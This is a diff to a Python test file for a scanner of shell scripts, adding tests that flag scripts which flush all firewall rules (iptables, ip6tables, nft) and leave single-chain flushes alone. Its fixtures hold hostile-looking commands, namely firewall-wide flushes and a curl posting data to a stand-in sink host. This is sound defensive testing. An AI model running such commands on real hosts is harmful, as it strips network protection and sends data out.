@@ -397,3 +397,20 @@ def test_one_declared_variable_sent_does_not_block(tmp_path: Path) -> None:
         'curl -s -d "$line" https://diag.sink.example.test/s\n'
     )
     assert blocking(tmp_path, {"diag.sh": sh}) == {}
+
+
+# ------------------------------------------------ the host's packet filter emptied
+
+
+def test_packet_filter_flushed_blocks(tmp_path: Path) -> None:
+    sh = "#!/bin/sh\n# make the dev server reachable\nsudo iptables -F; sudo ip6tables --flush\n"
+    assert "SY-KRN-001" in blocking(tmp_path, {"scripts/open.sh": sh})
+
+
+def test_nft_ruleset_flushed_blocks(tmp_path: Path) -> None:
+    assert "SY-KRN-001" in blocking(tmp_path, {"net.sh": "#!/bin/sh\nnft flush ruleset && echo ok\n"})
+
+
+def test_one_chain_flushed_does_not_block(tmp_path: Path) -> None:
+    sh = "#!/bin/sh\niptables -F DEVAPP\niptables -t nat -F\nnft list ruleset\n"
+    assert blocking(tmp_path, {"net.sh": sh}) == {}
